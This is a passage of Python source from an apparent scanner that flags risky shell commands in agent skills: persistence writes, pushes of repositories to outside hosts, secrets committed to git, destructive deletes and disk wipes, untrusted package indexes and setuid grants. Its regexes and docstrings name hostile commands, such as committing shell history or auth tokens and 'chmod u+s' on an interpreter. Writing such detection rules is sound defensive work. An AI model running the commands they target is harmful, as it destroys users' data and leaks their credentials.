    """What the script wrote earlier into files under ``folder`` (the hooks a hooksPath points git at)."""
    folder = home_path(folder).rstrip("/") + "/"
    return "\n".join(text for path, text in persist.contents.items() if home_path(path).startswith(folder))


def _written_named(persist: _Persist, names: list[str]) -> str:
    """What the script wrote earlier into the unit or job files a command names (by path or by file name)."""
    wanted = {n.rsplit("/", 1)[-1] for n in names} | {n.rsplit("/", 1)[-1] + ".service" for n in names}
    return "\n".join(text for path, text in persist.contents.items() if path.rsplit("/", 1)[-1] in wanted)


def _alternatives(ctx: Ctx, cmd: Cmd, target: str) -> list[str]:
    return (
        [a for a in cmd.alts if a != target] if target in cmd.args or any(target == t for _, t in cmd.redirects) else []
    )


def project_place(path: str) -> bool:
    """Whether a start-up place is the repository's own: under ``.git/`` by a relative path (a hook, its config)."""
    return path.removeprefix("./").startswith(".git/")


def _project_entry(cmd: Cmd, what: str) -> bool:
    """A start-up place that is the repository's own: a write under ``.git/`` by a relative path, or a git
    setting made in the repository's config (``git config`` without ``--global``, ``--system`` or ``--file``)."""
    if cmd.name == "git":
        return not {"--global", "--system", "--file", "-f", "--worktree"} & set(cmd.args)
    target = what.removeprefix("writes to ")
    return target != what and project_place(target)


def _startup(
    ctx: Ctx,
    cmd: Cmd,
    what: str,
    payload: str,
    depth: int,
    *,
    agent: bool,
    shipped: list[tuple[str, str]] | None = None,
) -> None:
    """One start-up write: an error when what runs later fetches, sends, decodes, reads secrets or hides; agent
    settings without such content a warning; anything else (a PATH line, the user's own job) a note.

    ``shipped`` are the skill's own files put in place (a hooks folder copied into .git/hooks, a unit installed,
    a folder set as core.hooksPath): each is judged as what runs there, its lines named in the message."""
    ctx.cap("writes", what.removeprefix("writes to "), cmd.start, cmd.end, "runs again later on its own")
    local = _project_entry(cmd, what)
    for path, text in shipped or []:
        if path == ctx.path:
            continue
        reason = _payload_harm(ctx, text, depth, path, local=local)
        if reason:
            reason = _in(path, reason)
            ctx.add(
                "skillscope/persistence/startup",
                f"{what} (line {ctx.line(cmd.start)}), which runs again later on its own, and what runs there "
                f"({path}) {reason.removeprefix('it ')}",
                cmd.start,
                cmd.end,
            )
            return
    harm = _payload_harm(ctx, payload, depth, local=local)
    if not harm and not local and (vendor := disguised_job(what.removeprefix("writes to "))):
        harm = f"is a job named as the system's own ({vendor}…), dressed to pass unnoticed"
    if harm:
        ctx.add(
            "skillscope/persistence/startup",
            f"{what} (line {ctx.line(cmd.start)}), which runs again later on its own, and what runs there {harm.removeprefix('it ') if harm.startswith('it ') else harm}",
            cmd.start,
            cmd.end,
        )
        return
    severity: Severity = "warning" if agent and not ctx.documented else "note"
    ctx.add(
        "skillscope/persistence/startup", f"{what}, which runs again later on its own", cmd.start, cmd.end, severity
    )


# --- destruction, installs, privileges -----------------------------------------------------------------

_SYSTEM_DIRS = re.compile(
    r"^/(?:\*|etc|usr|var|bin|sbin|lib\w*|boot|home|Users|opt|root|System|Library|Applications)?/?\*?$"
)
_HOME_ITSELF = re.compile(
    r"^(?:~|\$\{?HOME\}?)/?(?:\*|\.\*)?$|^(?:~|\$\{?HOME\}?)/(?:\.ssh|\.gnupg|\.aws|\.config|Documents|Desktop|Pictures|\.git)/?\*?$"
)
_DISK = re.compile(r"^/dev/(?:sd[a-z]|hd[a-z]|vd[a-z]|xvd[a-z]|nvme\d|mmcblk\d|disk\d|rdisk\d)")


_KEY_STORES = re.compile(r"^~/(?:\.local/share/keyrings|\.gnupg|\.password-store|Library/Keychains)(?:/|$)")
"""Folders of the user's key rings and stores: deleting them loses keys no cache rebuilds."""
_CD = re.compile(r"(?m)^[ \t]*cd[ \t]+(\S+)[ \t]*(?:$|&&|;|\|\|)")


def _in_home(ctx: Ctx, cmd: Cmd) -> bool:
    """Whether the script's last top-level ``cd`` before ``cmd`` went to the home folder (``cd "$HOME"``, ``cd ~``)."""
    moves = _CD.findall(ctx.text, 0, max(cmd.start, 0))
    return bool(moves) and moves[-1].strip("\"'") in ("~", "$HOME", "${HOME}", "~/")


def _named_git_host(address: str) -> str:
    """The host of a git address the script spells out (``https://host/x.git``, ``git@host:o/r``), or "" for a remote
    by name or an address known only at run time (the user's)."""
    if "://" in address:
        host = url_host_of(address)
    else:  # git@host:owner/repo
        host = address.split("@", 1)[-1].split(":", 1)[0] if "@" in address and ":" in address else ""
    return "" if not host or "$" in host or "{" in host or "." not in host else host


def _push_url_added(ctx: Ctx, cmd: Cmd) -> None:
    """``git remote set-url --add --push origin URL`` (or ``--push`` alone, ``git config remote.X.pushurl URL``):
    from then on every ``git push`` of that remote also, or only, goes to URL. To a host the script spells out,
    that is the user's code and history leaving with each push; to an address the user passes, their own mirror."""
    args = [a for a in cmd.args if a not in ("--add", "--push", "--global", "--local")]
    if cmd.args[:2] == ["remote", "set-url"] and "--push" in cmd.args and len(args) >= 4:
        remote, address = args[2], args[3]
    elif "config" in cmd.args[:1] and (key := next((a for a in args if a.lower().startswith("remote.")), "")):
        if not key.lower().endswith(".pushurl") or args.index(key) + 1 >= len(args):
            return
        remote, address = key[len("remote.") : -len(".pushurl")], args[args.index(key) + 1]
    else:
        return
    host = _named_git_host(address)
    ctx.cap("sends", host.lower() or "?", cmd.start, cmd.end, "git push URL")
    if not host:
        return
    ctx.add(
        "skillscope/exfiltration/data-flow",
        f"adds {safe_line(host, limit=60)} as a push URL of the remote {safe_line(remote, limit=40)}: every later push "
        f"sends the user's repository there, an address the skill names (line {ctx.line(cmd.start)})",
        cmd.start,
        cmd.end,
    )


def _pushes_out(ctx: Ctx, cmd: Cmd) -> None:
    """``git push <address>`` to a host the script names, not a remote of the user's: every ref pushed (``--mirror``,
    ``--all``, a branch) leaves the machine with the repository's code and history."""
    if cmd.name != "git":
        return
    if _git_verb(cmd) != "push":
        _push_url_added(ctx, cmd)
        return
    after = cmd.args[cmd.args.index("push") + 1 :]
    target = next((a for a in after if not a.startswith(("-", "+"))), "")
    host = _named_git_host(target)
    if not host:
        return  # a remote by name (origin), or an address the user passes: the user's own
    ctx.cap("sends", host.lower(), cmd.start, cmd.end, "git push")
    what = (
        "every ref (--mirror)"
        if "--mirror" in cmd.args
        else "every branch (--all)"
        if "--all" in cmd.args
        else "its commits"
    )
    ctx.add(
        "skillscope/exfiltration/data-flow",
        f"pushes the user's repository, {what}, to {safe_line(host, limit=60)}, an address the skill names rather "
        f"than a remote of the user's (line {ctx.line(cmd.start)})",
        cmd.start,
        cmd.end,
    )


def _git_dir(cmd: Cmd) -> str:
    """The folder a git command works in (``git -C DIR``), or '' for the current one."""
    args = cmd.args
    for index, arg in enumerate(args[:-1]):
        if arg == "-C":
            return args[index + 1].rstrip("/")
        if not arg.startswith("-"):
            break
    return ""


def _in_tree(path: str) -> bool:
    """A path inside the folder a script works in (``.gh-cache/session.json``, ``./out``), not the home folder's
    or an absolute one."""
    return not path.startswith(("/", "~", "$HOME", "${HOME}", "$TMPDIR", "${TMPDIR")) and ".." not in path


def _staged_secret(cmd: Cmd, verb: str, flow: _Flow) -> tuple[str, int, str] | None:
    """The secret a ``git add`` or ``git commit -a`` puts into the repository from a file the script wrote it into
    (``cp ~/.bash_history "$tmp/h"; git -C "$tmp" add h``, ``gh auth token > .cache/s; git add -f .cache``,
    ``git add -A``), or None. ``git commit -a`` and ``git add .`` take only files inside the working folder."""
    if verb not in ("add", "commit") or not flow.secret_files:
        return None
    words = cmd.args[cmd.args.index(verb) + 1 :]
    flags = [w for w in words if w.startswith("-")]
    specs = [w.strip("\"'").removeprefix("./").rstrip("/") for w in words if not w.startswith("-")]
    if verb == "commit":
        every = any(f in ("--all", "-a") or (f[1:2] != "-" and "a" in f[1:].split("m", 1)[0]) for f in flags)
        specs = ["."] if every else []
    elif any(f in ("-A", "--all") for f in flags):
        specs = ["."]
    base = _git_dir(cmd)
    base = "" if base in (".", "./") else base  # git -C "$(git rev-parse --show-toplevel)": the working folder's
    for written, (what, at) in flow.secret_files.items():
        path = written.strip("\"'").removeprefix("./")
        for spec in specs:
            if spec in (".", ":/", "*", ""):
                hit = (bool(base) and path.startswith(base + "/")) or (not base and _in_tree(path))
            else:
                full = f"{base}/{spec}" if base and not spec.startswith(("/", "~", "$")) else spec
                hit = path == full or path.startswith(full + "/") or (not base and path.endswith("/" + spec))
            if hit and what:
                return what, at, path
    return None


def staged_secret(command: str, written: Mapping[str, tuple[str, int]]) -> tuple[str, str, tuple[str, int, str]] | None:
    """What a shell line another language runs (``system("git", "add", "-f", ".gh-cache")``) stages of the files
    that language wrote a secret into (path -> what was read, its line): (git -C folder, verb, (what, line, path))."""
    flow = _Flow()
    flow.secret_files = dict(written)
    for pipeline in parse_shell(command):
        for cmd in (c for stage in pipeline for c in stage):
            verb = _git_verb(cmd)
            staged = _staged_secret(cmd, verb, flow)
            if staged is not None:
                return _git_dir(cmd), verb, staged
    return None


def _scratch(text: str, path: str) -> bool:
    """A path under a folder the script makes with mktemp (``$tmp/h``, ``$tmp``)."""
    found = re.match(r"\$\{?(\w+)", path.strip("\"'"))
    return found is not None and re.search(rf"\b{found.group(1)}=[\"']?\$\(\s*mktemp\b", text) is not None


def judge_staged(
    ctx: Ctx, base: str, verb: str, staged: tuple[str, int, str], start: int, end: int, *, staged_at: int = 0
) -> None:
    """A secret staged into a repository of the user's (the working folder's, ``git -C BASE``'s, not a scratch one
    the script makes): the next push or share of the repository publishes it, and its history keeps it."""
    if (base and not _in_tree(base)) or _scratch(ctx.text, base) or _scratch(ctx.text, staged[2]):
        return  # a scratch repository: what it holds leaves only by a push, judged there
    where = (
        f"writes it into {safe_line(staged[2].removeprefix('$1/'), limit=60)} (line {ctx.line(start)}), which git {verb} "
        f"stages (line {staged_at})"
        if staged_at
        else f"stages it into the repository with git {verb} (line {ctx.line(start)})"
    )
    ctx.add(
        "skillscope/secrets/token",
        f"{staged[0]} (line {staged[1]}) and {where}: the secret is committed, and every push or clone of the "
        "repository carries it",
        start,
        end,
        "error",
    )


def _kube_verb(args: list[str]) -> list[str]:
    """kubectl's words from its verb on, past the global options before it (``-n ns``, ``--context=prod``)."""
    index = 0
    while index < len(args) and args[index].startswith("-"):
        valued = args[index] in ("-n", "--namespace", "--context", "--kubeconfig", "--cluster", "--user", "-s")
        index += 2 if valued else 1
    return args[index:]


_NOUNSET = re.compile(r"^[ \t]*set[ \t]+(?:-[a-zA-Z]*u[a-zA-Z]*\b|-o[ \t]+nounset\b)", re.MULTILINE)
"""``set -u`` (or ``set -euo pipefail``): an unset variable stops the script instead of expanding to nothing."""


@lru_cache(maxsize=8)
def _nounset(text: str) -> bool:
    """Whether a script sets ``set -u`` anywhere: read once per script, not at each delete."""
    return _NOUNSET.search(text) is not None


def _destroys(ctx: Ctx, cmd: Cmd, assigned: set[str]) -> None:
    name, args = cmd.name, cmd.args
    harm: str | None = None
    if name == "rm" and any(re.fullmatch(r"-\w*[rRf]\w*|--recursive|--force|--no-preserve-root", a) for a in args):
        home = _in_home(ctx, cmd)
        for target in [a for a in args if not a.startswith("-")] + [a for a in cmd.alts if not a.startswith("-")]:
            if home and not target.startswith(("/", "~", "$", "-", "*")) and ".." not in target:
                target = "~/" + target.removeprefix("./")  # cd "$HOME" first: a relative item is in the home folder
            target = climbed_path(target)  # judged where it lands: ~/.cache/../.ssh is ~/.ssh
            ctx.cap("destroys", home_path(target), cmd.start, cmd.end, "rm -r")
            # "$X/"* with X unset runs as /*; a bare "$X" unset is an empty word, which rm deletes nothing for
            unset = re.match(r"^\$\{?([A-Za-z_]\w*)\}?/", target)
            if _HOME_ITSELF.match(target) or _SYSTEM_DIRS.match(target) or "--no-preserve-root" in args:
                harm = harm or f"deletes {safe_line(home_path(target), limit=60)}"
            elif credential_folder(target) or (target.startswith("~/") and _KEY_STORES.search(target)):
                harm = harm or f"deletes {safe_line(home_path(target), limit=60)}, where the user's keys are kept"
            elif (pointer := re.match(r"^\$\{!([A-Za-z_]\w*)\}/", target)) and not _nounset(ctx.text):
                # "${!var}/"*: the variable var names is looked up at run time; unset (no `set -u` to stop it), /*
                harm = harm or (
                    f"deletes {safe_line(target, limit=60)}, built from the variable ${pointer.group(1)} names, which "
                    f"may be unset with no `set -u` to stop it (it runs as /{target.split('/', 1)[1]})"
                )
            elif (
                unset
                and unset.group(1) not in assigned
                and unset.group(1) not in _ENV_SET
                and not _nounset(ctx.text)
                # ${X:?}, ${X?msg} stop the script; ${X:-dir}, ${X:=dir} give a default: never the bare /*
                and not re.search(rf"\$\{{{unset.group(1)}:?[?=-]", ctx.text[cmd.start : cmd.end])
            ):
                harm = (
                    harm
                    or f"deletes {safe_line(target, limit=60)}, built from ${unset.group(1)} which the script never sets (it runs as /{target.split('/', 1)[1] if '/' in target else ''})"
                )
    elif name == "dd":
        out = next((a[3:] for a in args if a.startswith("of=")), "")
        if out:
            ctx.cap("destroys", out, cmd.start, cmd.end, "dd")
            if _DISK.match(out):
                harm = f"overwrites the disk {safe_line(out, limit=40)}"
    elif name.startswith("mkfs") or name in ("wipefs", "shred", "fdisk", "sfdisk", "parted", "sgdisk"):
        for target in (a for a in args if not a.startswith("-")):
            ctx.cap("destroys", home_path(target), cmd.start, cmd.end, name)
            if _DISK.match(target) or (name == "shred" and (_HOME_ITSELF.match(target) or credential_what(target))):
                harm = harm or f"{name} {safe_line(target, limit=40)}"
    elif (
        name == "git"
        and args[:1] == ["push"]
        and any(a in ("--force", "-f", "--mirror") or (a.startswith("+") and len(a) > 1) for a in args)
    ):
        remote = next((a for a in args[1:] if not a.startswith("-") and not a.startswith("+")), "origin")
        ctx.cap("destroys", f"git remote {remote}", cmd.start, cmd.end, "git push --force")
        tags = _forced_tags(args)
        if tags:
            # moving a tag the script names rewrites no branch's history: a release retag is a capability
            ctx.add(
                "skillscope/permissions/destructive",
                f"force-pushes the tag {safe_line(', '.join(tags), limit=60)} to {safe_line(remote, limit=40)}, moving it on "
                f"the remote (line {ctx.line(cmd.start)})",
                cmd.start,
                cmd.end,
                "note",
            )
            return
        harm = "force-pushes, overwriting the remote's history"
    elif name == "git" and (act := _discards(cmd)) and (enumerated := _HOME_REPOS.search(ctx.text)):
        # the repositories the script finds under the home folder, not the folder the user names: every one's work lost
        ctx.cap("destroys", "git work trees under ~", cmd.start, cmd.end, f"git {act}")
        harm = (
            f"discards uncommitted work (git {act}) in every repository it finds under the home folder "
            f"({safe_line(enumerated.group(0), limit=60)})"
        )
    elif (
        name in ("kubectl", "oc")
        and (verb := _kube_verb(args))[:1] == ["delete"]
        and ({"--all", "-A", "--all-namespaces"} & set(verb))
    ):
        # every object of a kind in a namespace, not one the user names: the cluster's running services and their data
        kinds = next((a for a in verb[1:] if not a.startswith("-")), "objects")
        ctx.cap("destroys", f"kubernetes {kinds}", cmd.start, cmd.end, "kubectl delete")
        harm = f"deletes every {safe_line(kinds, limit=40)} in the cluster namespace"
    elif name == "rsync" and any(a.startswith("--delete") for a in args):
        # rsync --delete SRC DEST deletes whatever in DEST the source lacks: from an empty folder, all of it
        plain = [a for a in args if not a.startswith("-")]
        dest = plain[-1] if len(plain) >= 2 else ""
        if dest and not re.match(r"^[^/~.][^/]*:", dest):  # host:path is a remote copy
            ctx.cap("destroys", home_path(dest), cmd.start, cmd.end, "rsync --delete")
            if _HOME_ITSELF.match(dest.rstrip("/") or "/") or _SYSTEM_DIRS.match(dest):
                harm = f"deletes what {safe_line(home_path(dest), limit=40)} holds that {safe_line(plain[-2], limit=40)} lacks"
    elif name in ("docker", "podman") and (wiped := docker_wipe(args)):
        ctx.cap("destroys", f"{name} volumes", cmd.start, cmd.end, f"{name} {' '.join(args[:2])}")
        harm = wiped
    elif (wiped := recovery_harm(name, args)) is not None:
        ctx.cap("destroys", "the system's restore points", cmd.start, cmd.end, name)
        harm = wiped
    elif name == "find" and "-delete" in args:
        root = next((a for a in args if not a.startswith("-")), ".")
        ctx.cap("destroys", home_path(root), cmd.start, cmd.end, "find -delete")
        if (_HOME_ITSELF.match(root) or _SYSTEM_DIRS.match(root)) and "-name" not in args and "-iname" not in args:
            harm = f"deletes everything under {safe_line(home_path(root), limit=40)}"
    if harm:
        ctx.add("skillscope/permissions/destructive", f"{harm} (line {ctx.line(cmd.start)})", cmd.start, cmd.end)


_HOME_REPOS = re.compile(
    r"""\bfind\s+["']?(?:~|\$HOME\b|\$\{HOME\}|\$\{\w+:-\$HOME\})/?["']?\s[^\n]*-name\s+["']?\.git\b"""
    r"""|\bfor\s+\w+\s+in\s+["']?(?:~|\$HOME\b|\$\{HOME\})["']?/\*"""
)
"""Repositories found all over the home folder (``find ~ -name .git``, ``for d in ~/*/``), not under a folder named."""


def _discards(cmd: Cmd) -> str:
    """The git act that throws away a work tree's changes (``reset --hard``, ``clean -fdx``, ``checkout -- .``,
    ``restore .``), or ''."""
    verb = _git_verb(cmd)
    rest = cmd.args[cmd.args.index(verb) + 1 :] if verb else []
    flags = "".join(a.lstrip("-") for a in rest if a.startswith("-") and not a.startswith("--"))
    if verb == "reset" and "--hard" in rest:
        return "reset --hard"
    if verb == "clean" and "f" in flags and ("d" in flags or "x" in flags):
        return "clean -" + flags
    if verb in ("checkout", "restore") and "." in rest and "--staged" not in rest:
        return f"{verb} ."
    return ""


def docker_wipe(args: list[str]) -> str | None:
    """Why a docker (or podman) command deletes the user's data, or None: ``system prune --volumes``, ``volume prune
    --all`` and ``volume rm`` of every volume delete the volumes local databases and services keep their data in,
    which no pull brings back (images, containers and build cache are rebuilt or pulled again)."""
    words = [a for a in args if a not in ("-f", "--force")]
    if words[:2] == ["system", "prune"] and "--volumes" in words:
        return (
            "deletes every Docker volume no running container uses (docker system prune --volumes), with the data in it"
        )
    if words[:2] == ["volume", "prune"] and (
        {"-a", "--all"} & set(words) or any(re.fullmatch(r"-\w*a\w*", w) for w in words[2:])
    ):
        return "deletes every unused Docker volume (docker volume prune --all), with the data in it"
    if words[:2] in (["volume", "rm"], ["volume", "remove"]) and any(
        "volume ls" in w or "volume list" in w for w in args
    ):
        return "deletes every Docker volume it lists, with the data in it"
    return None


def _forced_tags(args: list[str]) -> list[str]:
    """The tags a ``git push --force`` moves when every ref it names is a tag (``refs/tags/v1``, ``tag v1``,
    ``+v1:refs/tags/v1``), or [] when it names a branch, names nothing (the current branch) or mirrors."""
    if "--mirror" in args or "--all" in args:
        return []
    words = [a for a in args[1:] if not a.startswith("-")]
    refs = words[1:]  # past the remote
    tags: list[str] = []
    index = 0
    while index < len(refs):
        ref = refs[index].lstrip("+")
        if ref == "tag" and index + 1 < len(refs):
            tags.append(refs[index + 1])
            index += 2
            continue
        dest = ref.rsplit(":", 1)[-1]
        if not dest.startswith("refs/tags/") or len(dest) == len("refs/tags/"):
            return []
        tags.append(dest.removeprefix("refs/tags/"))
        index += 1
    return tags


_ENV_SET = frozenset(
    {
        "HOME",
        "PWD",
        "OLDPWD",
        "USER",
        "LOGNAME",
        "SHELL",
        "PATH",
        "TMPDIR",
        "TMP",
        "TEMP",
        "XDG_CONFIG_HOME",
        "XDG_CACHE_HOME",
        "XDG_DATA_HOME",
        "XDG_STATE_HOME",
        "XDG_RUNTIME_DIR",
        "CLAUDE_PROJECT_DIR",
        "GITHUB_WORKSPACE",
        "RUNNER_TEMP",
        "CI_PROJECT_DIR",
        "HOSTNAME",
        "LANG",
        "BASH_SOURCE",
        "CLAUDE_PLUGIN_ROOT",
        "SKILL_DIR",
    }
)
"""Variables the environment sets before any script runs."""


def _go_replaces(ctx: Ctx, cmd: Cmd, args: list[str]) -> None:
    """``go mod edit -replace=old[@v]=new[@v]`` (or ``-replace old=new``): judged as go.mod's ``replace`` is."""
    for index, arg in enumerate(args):
        spec = arg.split("=", 1)[1] if arg.startswith("-replace=") else ""
        if arg == "-replace" and index + 1 < len(args):
            spec = args[index + 1]
        if "=" in spec:
            module, target = spec.split("=", 1)
            judge_go_replace(ctx, module, target, cmd.start, cmd.end, "go mod edit")


_PIP = ("pip", "pip3", "pipx", "uv", "poetry", "pdm", "conda", "mamba")
_NODE = ("npm", "pnpm", "yarn", "bun", "npx")
_SYSTEM_PM = ("apt", "apt-get", "yum", "dnf", "apk", "brew", "zypper", "pacman", "port", "choco", "winget", "snap")


def _installs(ctx: Ctx, cmd: Cmd) -> None:
    name, args = cmd.name, list(cmd.args)
    if name == "go" and args[:2] == ["mod", "edit"]:
        _go_replaces(ctx, cmd, args[2:])
        return
    if name in ("python", "python3") and args[:2] == ["-m", "pip"]:
        name, args = "pip", args[2:]
    if name == "uv" and args[:1] == ["pip"]:
        args = args[1:]
    # a runner fetches a package from its registry and runs it, each time: `npx pkg`, `uvx pkg`, `pnpm dlx pkg`
    runner = name in ("npx", "pnpx", "bunx", "uvx")
    if name in ("pnpm", "yarn") and args[:1] == ["dlx"] or name == "pipx" and args[:1] == ["run"]:
        runner, args = True, args[1:]
    elif name == "uv" and args[:2] == ["tool", "run"]:
        runner, args = True, args[2:]
    verb = args[0] if args else ""
    manager = name
    if runner:
        pass
    elif name in _PIP and verb in ("install", "add"):
        pass
    elif name in _NODE and verb in ("install", "i", "add", "ci"):
        pass
    elif name in ("gem", "cargo", "go") and verb in ("install", "get"):
        pass
    elif name in _SYSTEM_PM and verb in ("install", "add", "-S"):
        pass
    else:
        return
    rest = args[1:] if not runner else args
    if runner:  # the first name is the package run; what follows are its own arguments
        first = next((i for i, a in enumerate(rest) if not a.startswith("-")), None)
        rest = [] if first is None else [rest[first]]
    takes = {
        "-i",
        "--index-url",
        "--extra-index-url",
        "-f",
        "--find-links",
        "--registry",
        "--source",
        "-r",
        "--requirement",
        "-c",
        "--constraint",
        "--trusted-host",
        "-e",
        "--editable",
        "--target",
        "-t",
        "--prefix",
        "--root",
        "--cache-dir",
        "--python",
        "-p",
        "--index",
        "--default-index",
    }
    reasons: list[str] = []
    names: list[str] = []
    index = 0
    while index < len(rest):
        arg = rest[index]
        value = rest[index + 1] if index + 1 < len(rest) else ""
        flag, eq, inline = arg.partition("=")
        if flag in takes:
            if not eq:
                index += 1
            else:
                value = inline
            if (
                flag
                in (
                    "-i",
                    "--index-url",
                    "--extra-index-url",
                    "-f",
                    "--find-links",
                    "--registry",
                    "--source",
                    "--index",
                    "--default-index",
                )
                and value
            ):
                host = url_host_of(value) if "://" in value else value
                if ("$" in host or "`" in host or host in ("?", "")) and "__VALUE" not in host:
                    # an index the user configures (an argument, $PIP_INDEX_URL): theirs to choose, a capability only;
                    # a value another analyser could not resolve at all ($__VALUE: perhaps the skill's own) still warns
                    ctx.cap("installs", "index ?", cmd.start, cmd.end, f"{manager}, from {safe_line(value, limit=40)}")
                elif host not in (
                    "pypi.org",
                    "files.pythonhosted.org",
                    "registry.npmjs.org",
                    "rubygems.org",
                    "registry.yarnpkg.com",
                ):
                    reasons.append(f"from the package index {safe_line(host, limit=60)}")
                    ctx.cap("installs", f"index {host}", cmd.start, cmd.end, manager)
            if flag in ("-e", "--editable") and value and "://" in value:
                names.append(value)
            index += 1
            continue
        if not arg.startswith("-"):
            names.append(arg)
        index += 1
    for package in names:
        if "://" in package or package.startswith(("git+", "github:", "git@")):
            reasons.append(f"from {safe_line(package, limit=80)}")
            ctx.cap("installs", package, cmd.start, cmd.end, manager)
            continue
        if runner and package.startswith("@"):
            bare = package
        else:
            bare = (
                re.split(r"[=<>!~\[;@ ]", package.lstrip("@"), maxsplit=1)[0]
                if not package.startswith("@")
                else package.rsplit("@", 1)[0]
                if package.count("@") > 1
                else package
            )
        if (
            not bare
            or bare in (".", "..")
            or bare.endswith((".txt", ".whl", ".tar.gz", ".zip", ".tgz"))
            or "/" in bare
            and name in _PIP
        ):
            if bare.endswith((".whl", ".tar.gz", ".zip", ".tgz")):
                ctx.cap("installs", bare, cmd.start, cmd.end, manager)
            continue
        ctx.cap("installs", bare.lower(), cmd.start, cmd.end, manager)
        if mixed_script_package(ctx, bare, cmd.start, cmd.end, manager):
            continue
        ecosystem = (
            "npm"
            if name in (*_NODE, "pnpx", "bunx")
            else "pypi"
            if name in (*_PIP, "uvx")
            else "gems"
            if name == "gem"
            else None
        )
        near = (
            (near_popular(ecosystem, bare) if ecosystem else None) or one_edit_from(bare)
            if name not in _SYSTEM_PM
            else None
        )
        if near:
            reasons.append(f"{bare}, one letter from the popular {near}")
        if runner:
            break
    if reasons:
        severity: Severity | None = "note" if ctx.documented and not ctx.path.upper().endswith("SKILL.MD") else None
        ctx.add(
            "skillscope/permissions/risky-install",
            f"installs {'; '.join(reasons)} with {manager} (line {ctx.line(cmd.start)})",
            cmd.start,
            cmd.end,
            severity,
        )


_INDEX_KEYS = {
    "pip": ("global.index-url", "global.extra-index-url", "install.index-url", "install.extra-index-url"),
    "pip3": ("global.index-url", "global.extra-index-url", "install.index-url", "install.extra-index-url"),
    "npm": ("registry",),
    "pnpm": ("registry",),
    "yarn": ("registry", "npmRegistryServer"),
    "bun": ("registry",),
}
"""The settings of each package manager's ``config set`` that choose where every later install comes from."""
_OTHER_OWN_INDEXES = ("rubygems.org", "golang.org")
"""``gem sources`` and ``GOPROXY`` take these as their ecosystems' own, beside Python's and npm's."""


def _index_redirect(ctx: Ctx, cmd: Cmd) -> None:
    """``pip config set global.index-url URL``, ``npm config set registry URL``, ``gem sources --add URL``, ``go env -w
    GOPROXY=URL``: the user's every later install comes from URL. A warning to a host the skill names that is not the
    ecosystem's own index, an error when that host is dressed as a well-known one; an address the user passes is only
    a capability."""
    name, args = cmd.name.rsplit("/", 1)[-1], cmd.args
    if re.fullmatch(r"python[\d.]*|py", name) and args[:2] == ["-m", "pip"]:
        name, args = "pip", args[2:]  # python3 -m pip config set ...
    url = ""
    if name in _INDEX_KEYS and ("set" in args[:3]) and ("config" in args[:2] or args[:1] == ["set"]):
        rest = args[args.index("set") + 1 :]
        words = [a for a in rest if not a.startswith("-")]
        if len(words) >= 2 and words[0] in _INDEX_KEYS[name]:
            url = words[1]
        elif words and "=" in words[0] and words[0].split("=", 1)[0] in _INDEX_KEYS[name]:
            url = words[0].split("=", 1)[1]
    elif name == "gem" and args[:1] == ["sources"] and any(a in ("--add", "-a") for a in args):
        url = next((a for a in args[1:] if not a.startswith("-")), "")
    elif name == "go" and args[:2] == ["env", "-w"]:
        url = next((a.split("=", 1)[1] for a in args[2:] if a.startswith("GOPROXY=")), "").split(",")[0]
    url = url.strip("\"'")
    if not url or url in ("direct", "off"):
        return
    host = url_host_of(url) if "://" in url else ""
    ctx.cap("installs", f"index {host or url}", cmd.start, cmd.end, f"{name} config")
    if not host or "$" in url or "`" in url:
        return  # an address the user passes: their own mirror
    if package_index(host, _OTHER_OWN_INDEXES):
        return
    dressed = lookalike_site(host)
    ctx.add(
        "skillscope/permissions/risky-install",
        f"points every later {name} install of the user at {safe_line(host, limit=60)}"
        + (f", a host dressed as {dressed}" if dressed else ", a package index the skill names")
        + f" (line {ctx.line(cmd.start)})",
        cmd.start,
        cmd.end,
        "error" if dressed else None,
    )


def _privilege(ctx: Ctx, cmd: Cmd, pipeline: Pipeline, persist: _Persist) -> None:
    name, args = cmd.name, cmd.args
    if name == "chmod" and args:
        mode = next((a for a in args if not a.startswith("-") or re.fullmatch(r"-[rwxXst]+", a)), "")
        paths = [a for a in args if a != mode and not a.startswith("-")]
        setuid = bool(re.fullmatch(r"[ugoa]*\+[rwx]*s[rwx]*|[4-7][0-7]{3}", mode))
        wide = bool(re.fullmatch(r"0?[0-7]?7[0-7]7|a\+rwx|o\+w|ugo\+rwx", mode))
        for path in paths:
            if setuid or wide:
                ctx.cap("grants", f"chmod {mode} {home_path(path)}", cmd.start, cmd.end, "file mode")
        if setuid:
            # a shell, an interpreter, a hidden or scratch file, or a path known only at run time (as modes.judge_mode
            # has it): `chmod u+s "$interp"` after `interp=$(command -v python3)` is a root shell for anyone
            shellish = any(
                re.search(r"(?:^|/)(?:ba|z|da|k)?sh$|python\d?$|/tmp/|/dev/shm/|(?:^|/)\.", p)
                or p.startswith(("$", "`"))
                for p in paths
            )
            ctx.add(
                "skillscope/permissions/privilege",
                f"sets the setuid bit on {safe_line(' '.join(paths), limit=60)} (line {ctx.line(cmd.start)})",
                cmd.start,
                cmd.end,
                "error" if shellish else None,
            )
        else:
            number = mode_number(mode) or 0
            for path in paths:  # a world-open mode: on a key folder or a system file, judged as every language's is
                if number & 0o002 or (number & 0o004 and credential_what(home_path(path))):
                    judge_mode(ctx, number, home_path(path), cmd.start, cmd.end, "chmod")
        return
    for target in _write_targets(cmd):
        payload = _printed(cmd) if cmd.name != "tee" else (cmd.stdin or _stage_output(pipeline, cmd))
        judge_sudoers(ctx, target, payload, cmd.start, cmd.end)


# --- the walk -----------------------------------------------------------------------------------------


def scan_shell(ctx: Ctx) -> None:
    """Run every shell rule over ``ctx.text``."""
    _scan(ctx, 0)
    _dedupe(ctx)


def _dedupe(ctx: Ctx) -> None:
    """One hit per rule, line and message: a credential read inside a helper and again through the call that
    runs it (``K=$(get_key)``) is one read."""
    seen: set[tuple[str, int, str]] = set()
    reads: set[str] = set()
    kept = []
    for raw in ctx.hits:
        key = (raw.check, ctx.line(raw.start), raw.message)
        if key in seen:
            continue
        if raw.check == "skillscope/exfiltration/credential-read":
            if raw.message in reads:
                continue
            reads.add(raw.message)
        seen.add(key)
        kept.append(raw)
    ctx.hits[:] = kept


_ZSH_FLAGGED = re.compile(r"\$\{(?:\([^()\s]*\))+(?=\")")


def _zsh_flags_read(text: str) -> str:
    """zsh's parameter flags before a quoted word (``${(f)"$(sed … $histfile)"}``, split into lines) written as
    bash's grammar can read them, the same length so every offset stays: ``${(f)"`` becomes ``     "``, a quoted
    word whose substitution is walked. As written, the grammar loses the rest of the script (the functions after)."""
    if "${(" not in text:
        return text
    return _ZSH_FLAGGED.sub(lambda m: " " * len(m.group(0)), text)


def _scan(ctx: Ctx, depth: int, args: list[str] | None = None) -> None:
    if not ctx.text.strip():
        return
